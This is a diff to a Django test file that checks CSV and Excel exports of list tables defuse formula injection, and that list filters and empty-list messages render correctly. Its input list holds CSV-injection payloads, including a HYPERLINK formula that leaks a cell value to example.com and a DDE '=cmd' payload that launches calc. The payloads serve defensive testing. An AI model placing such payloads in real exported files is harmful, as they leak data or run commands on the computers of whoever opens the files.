@@ -2,19 +2,53 @@
 
 import csv
 import io
+import re
 from datetime import UTC, date, datetime
 from decimal import Decimal
 
 import django_tables2 as tables
 import pytest
+from django import forms
+from django.template.loader import render_to_string
 from django.test import RequestFactory
 from openpyxl import load_workbook
 
-from plant.lists import ROWS, HouseTable, list_page
+from plant.lists import ROWS, HouseTable, RowFilter, list_page, plain_cell
 from tests import builders
 
 pytestmark = pytest.mark.django_db
-NASTY = ["=1+1", "+1", "-1", "@sum(a1)", "\t=1", "\r=1"]
+# Heads of formulas and the payloads of OWASP's page "CSV Injection" (from memory), bare, behind blanks and behind signs
+# that are not seen; full-width forms are taken for the narrow ones by a spreadsheet set to some languages.
+NASTY = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@sum(a1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\tplain",
+    "\rplain",
+    "\nplain",
+    '=1+2";=1+2',
+    "=1+2'\" ;,=1+2",
+    '=HYPERLINK("http://example.com?leak="&A1,"Error")',
+    "=cmd|' /C calc'!A0",
+    " =1+1",
+    "   -1",
+    "\xa0+1",
+    "\u3000@sum(a1)",
+    "\u200b=1",
+    "\ufeff=1",
+    " \t \x0b=1",
+    "\x00=1",
+    "\x7f=1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20sum(a1)",
+]
+PLAIN = ["a=b", "2 - 1", "Osier", "  Sedge", "'=1", "3 kg", ""]
 
 
 class Few(HouseTable):
@@ -36,9 +70,14 @@ def rows(words):
     return [{"word": word, "count": -n, "at": datetime(2026, 7, 1, 8, tzinfo=UTC)} for n, word in enumerate(words)]
 
 
+def as_kept(word):
+    """A sign that no workbook holds is shown as replaced."""
+    return re.sub("[\x00\x0b]", "\N{REPLACEMENT CHARACTER}", word)
+
+
 def test_no_cell_of_a_csv_file_is_taken_for_a_formula():
     told = list(csv.reader(io.StringIO(page(rows(NASTY), form="csv").file.content.decode(), newline="")))
-    assert [line[0] for line in told[1:]] == [f"'{word}" for word in NASTY]
+    assert [line[0] for line in told[1:]] == [f"'{as_kept(word)}" for word in NASTY]
     assert told[1][2] == "2026-07-01T09:00:00+01:00"
 
 
@@ -47,6 +86,59 @@ def test_no_cell_of_a_workbook_is_a_formula_and_numbers_stay_numbers():
     lines = [list(line) for line in book.active.rows][1:]
     assert all(line[0].data_type == "s" and line[0].value.startswith("'") for line in lines)
     assert [line[1].value for line in lines] == [-n for n in range(len(NASTY))]
+
+
+def test_what_is_no_formula_stays_as_it_was_written():
+    assert [plain_cell(word) for word in PLAIN] == PLAIN
+
+
+def test_a_separator_and_quotes_begin_no_cell_of_their_own():
+    told = list(
+        csv.reader(io.StringIO(page(rows(['"1",=1', "a\r\n=1"]), form="csv").file.content.decode(), newline=""))
+    )
+    assert [line[0] for line in told[1:]] == ['"1",=1', "a\r\n=1"]
+    assert {len(line) for line in told} == {3}
+
+
+class ByWord(RowFilter):
+    word = forms.ChoiceField(label="Word", choices=[("", "Every word"), ("one", "The first"), ("two", "The second")])
+    day = forms.DateField(label="Day")
+
+    def fits(self, row, asked):
+        return asked["word"] in ("", None, row["word"])
+
+
+def narrowed(**asked):
+    request = RequestFactory().get("/", asked)
+    asks = ByWord(request.GET)
+    some = rows(["one", "two", "two"])
+    return list_page(request, Few(asks.kept(some)), name="few", filtered=asks, total=len(some))
+
+
+def drawn(found):
+    return render_to_string("parts/list.html", {"list": found, "request": RequestFactory().get("/")})
+
+
+def test_a_narrowed_list_tells_how_many_of_how_many_and_by_what():
+    found = narrowed(word="two")
+    assert (found.count, found.total, found.narrowed) == (2, 3, [("Word", "The second")])
+    assert "<b>2</b> found of 3" in drawn(found)
+    assert "found of" not in drawn(narrowed())
+
+
+def test_what_cannot_be_read_narrows_nothing_and_is_told_at_its_field():
+    found = narrowed(day="soon")
+    assert (found.count, found.is_filtered) == (3, False)
+    assert "This is no day: write 2026-12-31." in drawn(found)
+
+
+def test_a_list_with_nothing_on_it_asks_for_nothing_and_says_why():
+    few = Few([])
+    few.nothing = "None came yet."
+    asks = ByWord(RequestFactory().get("/").GET)
+    page = drawn(list_page(RequestFactory().get("/"), few, name="few", filtered=asks, total=0))
+    assert "None came yet." in page
+    assert "<form" not in page
 
 
 def test_a_page_holds_so_many_rows_and_a_file_all_of_them():
